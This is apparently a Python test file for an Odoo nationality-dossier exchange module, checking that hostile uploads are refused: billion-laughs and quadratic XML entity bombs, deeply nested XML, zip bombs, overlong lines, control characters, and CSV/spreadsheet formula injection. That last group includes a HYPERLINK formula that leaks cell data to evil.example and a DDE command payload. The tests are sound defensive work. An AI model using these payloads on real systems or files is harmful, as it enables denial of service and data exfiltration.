# Copyright 2026 Vietnam Nationality Dossiers contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Hostile files: edXML messages that expand entities or nest without end,
oversized attachments and texts, registers with endless lines, workbooks that
unpack to gigabytes, and cells that a spreadsheet would run as formulas. Each
is refused with a clear message and nothing of it is kept."""

import base64
import csv
import io
import xmlrpc.client
import zipfile
from unittest.mock import patch

import openpyxl
from lxml import etree

from odoo.addons.nationality_exchange.models import nationality_record_import
from odoo.addons.nationality_exchange.models.nationality_edxml import EDXML_NS
from odoo.exceptions import UserError
from odoo.tests import HttpCase, get_db_name, tagged

from .letters_common import EdxmlCase
from .lookups_common import LookupCase

NS = {"e": EDXML_NS}
# Entities of entities, ten times at each of nine levels: a billion "lol".
LAUGHS = b'<!ENTITY lol "lol">' + b"".join(
    b'<!ENTITY lol%d "%s">'
    % (level, (b"&lol%s;" % (b"%d" % (level - 1) if level > 1 else b"")) * 10)
    for level in range(1, 10)
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE edXML [' + LAUGHS + b"]>\n"
    b'<edXML xmlns="' + EDXML_NS.encode() + b'"><edXMLEnvelope>&lol9;</edXMLEnvelope></edXML>'
)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]
REGISTER_HEADER = "full_name,birth_date,event_type,decision_number,note"


def xlsx_bytes(rows, sheet_xml=None, extra=None):
    """A workbook of ``rows``; ``sheet_xml`` rewrites the XML of the sheet,
    ``extra`` adds files to the archive."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    if not (sheet_xml or extra):
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if sheet_xml and item.filename == "xl/worksheets/sheet1.xml":
                content = sheet_xml(content)
            target.writestr(item, content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return result.getvalue()


@tagged("post_install", "-at_install")
class TestHostileEdxml(EdxmlCase):
    def message(self, **values):
        """The edXML message of a signed letter that this database then forgets."""
        letter = self.signed_letter(**values)
        data = self.export(letter)
        self.forget(letter)
        return data

    def test_entity_expansion_and_deep_nesting_are_refused(self):
        self.assert_refused(BILLION_LAUGHS, "not well-formed XML|document type declaration")
        # One big entity referenced many times (quadratic blowup): no loop for
        # the parser to detect, refused for its document type declaration.
        blowup = (
            b'<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY a "'
            + b"x" * 50000
            + b'">]>\n<edXML xmlns="'
            + EDXML_NS.encode()
            + b'">'
            + b"&a;" * 20000
            + b"</edXML>"
        )
        self.assert_refused(blowup, "not well-formed XML|document type declaration")
        nested = b'<edXML xmlns="' + EDXML_NS.encode() + b'">' + b"<a>" * 5000
        self.assert_refused(nested + b"</a>" * 5000 + b"</edXML>", "not well-formed XML")

    def test_oversized_messages_are_refused_before_parsing(self):
        self.env["ir.config_parameter"].set_param("nationality_exchange.edxml_max_size_mb", "1")
        data = self.message()
        root = etree.fromstring(data)
        content = root.find("e:AttachmentEncoded/e:Attachment/e:ContentTransferEncoded", NS)
        content.text = base64.b64encode(b"%PDF-1.4\n" + b"\0" * 1_500_000).decode()
        self.assert_refused(etree.tostring(root), "larger than 1 MB and was refused")

    def test_values_that_crashed_the_import(self):
        data = self.message()
        # A number of 5,000 digits: Python refuses to read it as an integer.
        self.assert_refused(
            data.replace(b"<edXML:CodeNumber>01<", b"<edXML:CodeNumber>" + b"9" * 5000 + b"<"),
            "is not a positive whole number",
        )
        # Year 1 in Vietnam's time zone is before year 1 in UTC.
        root = etree.fromstring(data)
        stamp = root.find(
            "e:edXMLEnvelope/e:edXMLHeader/e:TraceHeaderList/e:TraceHeader/e:Timestamp", NS
        )
        stamp.text = "0001/01/01 00:00:00"
        self.assert_refused(etree.tostring(root), "Timestamp 0001/01/01 00:00:00 is not a date")

    def test_control_characters_and_overlong_texts_are_refused(self):
        data = self.message()
        self.assert_refused(
            data.replace(b"V/v x\xc3\xa1c minh", b"V/v&#x9b; x\xc3\xa1c minh"),
            "Subject contains control or invisible formatting characters",
        )
        self.assert_refused(
            data.replace(
                "Nguyễn Văn Đức</nx:FullName>".encode(),
                "Nguyễn\u202e Văn Đức</nx:FullName>".encode(),
            ),
            "Person contains control",
        )
        root = etree.fromstring(data)
        subject = root.find("e:edXMLEnvelope/e:edXMLHeader/e:MessageHeader/e:Subject", NS)
        subject.text = "V/v xác minh quốc tịch " * 100
        self.assert_refused(etree.tostring(root), "Subject is too long")

    def test_too_many_persons_are_refused(self):
        root = etree.fromstring(self.message())
        extension = root.find("{urn:vn-nationality-dossiers:exchange:1}NationalityExchange")
        person = extension.find("{urn:vn-nationality-dossiers:exchange:1}Person")
        for _index in range(2001):
            extension.append(etree.fromstring(etree.tostring(person)))
        self.assert_refused(etree.tostring(root), "more than 2000 persons")

    def test_wrong_types_are_refused(self):
        for data in (["<edXML/>"], 12, {"data": "x"}):
            self.assert_refused(data, "must be sent as bytes or as text")
        self.assert_refused("<edXML>\ud800</edXML>", "not valid Unicode text")
        # The message as XML-RPC binary or as text is read like bytes.
        data = self.message()
        letter, created = self.import_as(self.cuc_officer, xmlrpc.client.Binary(data))
        self.assertTrue(created)
        letter, created = self.import_as(self.cuc_officer, data.decode())
        self.assertFalse(created)

    def test_formulas_in_the_list_of_persons_stay_text(self):
        letter = self.signed_letter()
        persons = [
            {"full_name": "Nguyễn Văn Đức", "birth_date_display": "1957", "note": FORMULAS[0]},
            {"full_name": FORMULAS[1], "dossier_code": FORMULAS[3], "note": FORMULAS[2]},
        ]
        attachment = self.env["nationality.dossier"]._persons_list_attachment(letter, persons)
        sheet = openpyxl.load_workbook(io.BytesIO(attachment.raw)).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        self.assertNotIn("f", {cell.data_type for cell in cells})
        self.assertIn(FORMULAS[0], [cell.value for cell in cells])
        self.assertIn(FORMULAS[1], [cell.value for cell in cells])


@tagged("post_install", "-at_install")
class TestEdxmlOverXmlrpc(HttpCase, EdxmlCase):
    def rpc(self, *args):
        proxy = xmlrpc.client.ServerProxy(f"{self.base_url()}/xmlrpc/2/object", allow_none=True)
        user = self.cuc_officer
        return proxy.execute_kw(
            get_db_name(),
            user.id,
            user.login,
            "nationality.edxml",
            "import_message",
            list(args),
            {},
        )

    def test_hubs_import_messages_over_xmlrpc(self):
        letter = self.signed_letter()
        data = self.export(letter)
        document_id = letter.document_id
        self.forget(letter)
        before = self.counts()
        for hostile in (["x"], BILLION_LAUGHS.decode(), xmlrpc.client.Binary(b"\x00" * 100)):
            with self.assertRaises(xmlrpc.client.Fault) as caught:
                self.rpc(hostile)
            self.assertEqual(caught.exception.faultCode, 2, caught.exception.faultString)
        self.assertEqual(self.counts(), before)
        # A recordset cannot travel over XML-RPC: the answer is plain data,
        # and a message sent twice is recorded once.
        answer = self.rpc(xmlrpc.client.Binary(data))
        self.assertEqual((answer["document_id"], answer["created"]), (document_id, True))
        answer = self.rpc(data.decode())
        self.assertFalse(answer["created"])
        self.assertEqual(self.counts()[0], before[0] + 1)


@tagged("post_install", "-at_install")
class TestHostileRegisterFiles(LookupCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Import = cls.env["nationality.record.import"].with_user(cls.cuc_officer)

    def counts(self):
        return (
            self.env["nationality.record.import"].search_count([]),
            self.env["nationality.record"].with_context(active_test=False).search_count([]),
        )

    def assert_refused(self, content, filename, message):
        before = self.counts()
        with self.assertRaisesRegex(UserError, message):
            self.Import.import_file(content, filename)
        self.assertEqual(self.counts(), before)

    def test_endless_lines_are_refused(self):
        line = "Nguyễn Văn An,1980,renunciation,1/QĐ-CTN," + "x" * (10 * 1024 * 1024)
        content = f"{REGISTER_HEADER}\n{line}\n".encode()
        self.assert_refused(content, "so_dang_ky.csv", "Line 2 of the CSV file is longer than")
        self.assert_refused(("a," * 5_000_000).encode(), "so_dang_ky.csv", "Line 1 of the CSV")
        # NUL, which PostgreSQL's COPY refuses: the row is rejected, not the file.
        batch = self.Import.import_file(
            f"{REGISTER_HEADER}\nNguyễn Văn An\x00,1980,renunciation,1/QĐ-CTN,\n".encode(),
            "so_dang_ky.csv",
        )
        self.assertEqual((batch.rows_imported, batch.rows_rejected), (0, 1))
        text = base64.b64decode(batch.rejected_file).decode("utf-8-sig")
        self.assertIn("full_name: contains control or invisible formatting characters", text)

    def test_rejected_rows_report_neutralises_formulas(self):
        rows = [
            f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",1980,renunciation,1/QĐ-CTN,',
            f"Trần Văn Bảo,{FORMULAS[1]},renunciation,2/QĐ-CTN,{FORMULAS[3]}",
            f"Lê Thị Cúc,{FORMULAS[2]},marriage,3/QĐ-CTN,",
            'Phạm Văn Dũng,"\t=1+1",renunciation,4/QĐ-CTN,',
            "Võ Thị Én\x1b,1980,renunciation,5/QĐ-CTN,",
            # Valid: a note that looks like a formula is text in the registry.
            "Đỗ Văn Giang,1980,renunciation,6/QĐ-CTN,=1+2",
        ]
        content = "\n".join([REGISTER_HEADER, *rows]).encode()
        batch = self.Import.import_file(content, "=evil.csv")
        text = base64.b64decode(batch.rejected_file).decode("utf-8-sig")
        report = list(csv.reader(io.StringIO(text)))
        self.assertEqual(len(report), 1 + 5, text)
        for row in report:
            for cell in row:
                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t")), (cell, text))
        cells = [cell for row in report for cell in row]
        self.assertIn("'" + FORMULAS[1], cells)
        self.assertIn("'" + FORMULAS[3], cells)
        reasons = {row[0]: row[1] for row in report[1:]}
        self.assertEqual(
            reasons["6"], "full_name: contains control or invisible formatting characters"
        )
        self.assertEqual(batch.rows_imported, 1)
        self.assertEqual(self.record_named("Đỗ Văn Giang", "6/QĐ-CTN").note, "=1+2")

    def test_xlsx_bombs_are_refused(self):
        rows = [REGISTER_HEADER.split(","), ["Nguyễn Văn An", "1980", "renunciation", "1/QĐ-CTN"]]

        def laughs(sheet):
            text = sheet.decode()
            body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
            body = body.replace("Nguy&#7877;n V&#259;n An", "&lol9;")
            return b'<?xml version="1.0"?><!DOCTYPE worksheet [' + LAUGHS + b"]>" + body.encode()

        self.assert_refused(
            xlsx_bytes(rows, sheet_xml=laughs), "so.xlsx", "cannot be read after row 1"
        )
        # Twenty megabytes of zeros pack into a few kilobytes.
        bomb = xlsx_bytes(rows, extra={"xl/media/image1.bin": b"\0" * (20 * 1024 * 1024)})
        self.assertLess(len(bomb), 200_000)
        with patch.object(nationality_record_import, "MAX_XLSX_UNPACKED_MB", 10):
            self.assert_refused(bomb, "so.xlsx", "unpacks to more than 10 MB")
        self.assert_refused(b"PK\x03\x04 not a zip", "so.xlsx", "not a readable XLSX workbook")

    def test_person_lists_with_endless_lines_are_refused(self):
        request = self.env["nationality.lookup.request"].with_user(self.berlin_user)
        reference = request.api_submit(
            {"purpose": "Xác minh quốc tịch", "persons": [{"full_name": "Lê Minh Tuấn"}]}
        )
        request = request.search([("name", "=", reference)])
        Wizard = self.env["nationality.lookup.person.import.wizard"].with_user(self.berlin_user)
        for content, message in (
            (
                b"full_name,note\nL\xc3\xaa V\xc4\x83n A," + b"x" * (1024 * 1024) + b"\n",
                "longer than",
            ),
            ("full_name,birth_place\nLê Văn A," + "Hà Nội " * 40 + "\n", "birth_place is too long"),
            ("full_name,note\nLê Văn\x1b A,\n", "full_name contains control"),
        ):
            wizard = Wizard.create(
                {
                    "request_id": request.id,
                    "file": base64.b64encode(
                        content if isinstance(content, bytes) else content.encode()
                    ),
                    "filename": "danh_sach.csv",
                }
            )
            with self.assertRaisesRegex(UserError, message):
                wizard.action_import()
        self.assertEqual(len(request.person_ids), 1)
